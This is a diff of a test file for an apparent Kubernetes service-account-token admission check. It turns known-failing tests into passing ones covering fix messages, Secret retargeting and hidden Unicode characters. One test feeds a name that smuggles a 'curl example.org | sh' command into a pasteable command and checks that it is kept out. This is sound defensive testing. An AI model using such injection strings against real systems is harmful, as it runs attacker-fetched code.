@@ -33,8 +33,7 @@ describe('The fix', () => {
     expect(fixOf('pods', object)).toContain('remove the serviceAccountToken source from volume "api"');
   });
 
-  // Known: the first hand-written source is named, whether or not it is for the API.
-  it.fails('for a token written by hand does not name the volume of another audience', () => {
+  it('for a token written by hand does not name the volume of another audience', () => {
     const object = pod({
       automountServiceAccountToken: false,
       containers: mounting('vault', 'api'),
@@ -43,15 +42,13 @@ describe('The fix', () => {
     expect(fixOf('pods', object)).toContain('volume "api"');
   });
 
-  // Known: it is told only to pods that opt out themselves.
-  it.fails('for a token written by hand is said where the service account opted out too', () => {
+  it('for a token written by hand is said where the service account opted out too', () => {
     const object = pod({ containers: mounting('api'), volumes: [tokenVolume('api')] });
     const serviceAccount = account({ automountServiceAccountToken: false });
     expect(fixOf('pods', object, { serviceAccount })).toContain('volume "api"');
   });
 
-  // Known: the API server does not validate the names in templates of other groups.
-  it.fails('never puts a name that is no name into a command that people paste', () => {
+  it('never puts a name that is no name into a command that people paste', () => {
     const template = { spec: { serviceAccountName: 'web; curl example.org | sh #', containers: [{ name: 'app' }] } };
     expect(fixOf('rollouts.argoproj.io', { kind: 'Rollout', spec: { template } })).not.toContain('curl');
   });
@@ -61,15 +58,13 @@ describe('The fix', () => {
     expect(fixOf('secrets', object)).toContain('kubectl create token <service account> ');
   });
 
-  // Known: a command that is pasted as it stands documents the need with "<why>".
-  it.fails('cannot be pasted as it stands to silence the check', () => {
+  it('cannot be pasted as it stands to silence the check', () => {
     const object = pod({ containers: mounting('api'), volumes: [tokenVolume('api')] });
     const serviceAccount = account({}, { 'curfew.dev/api-access': '<why>' });
     expect(fixOf('pods', object, { serviceAccount })).not.toBe('nothing');
   });
 
-  // Known: the command for the account that the Secret was stolen for would mint just that token.
-  it.fails('for a Secret pointed at another account is no token of that account', () => {
+  it('for a Secret pointed at another account is no token of that account', () => {
     const { denial } = judgeWith(
       subjectOf('secrets', tokenSecret({ 'kubernetes.io/service-account.name': 'administrator' }), {
         operation: 'UPDATE',
@@ -81,8 +76,7 @@ describe('The fix', () => {
 });
 
 describe('A message about a name with hidden characters', () => {
-  // Known: characters that turn the direction of text, or have no width, are printed as they are.
-  it.fails.each(['\u202e', '\u2066', '\u200b', '\ufeff'])('shows no %j', (hidden) => {
+  it.each(['\u202e', '\u2066', '\u200b', '\ufeff'])('shows no %j', (hidden) => {
     const subject = subjectOf('secrets', tokenSecret({ 'kubernetes.io/service-account.name': `a${hidden}b` }), {
       operation: 'UPDATE',
       oldObject: tokenSecret(),
@@ -92,8 +86,7 @@ describe('A message about a name with hidden characters', () => {
 });
 
 describe('A template with a volume that only bears the name of the default one', () => {
-  // Known: the ServiceAccount plugin goes by the name alone, so its pods mount this volume and get no API token.
-  it.fails('is judged as its pods are', () => {
+  it('is judged as its pods are', () => {
     const spec = {
       serviceAccountName: 'web',
       containers: [{ name: 'app' }],
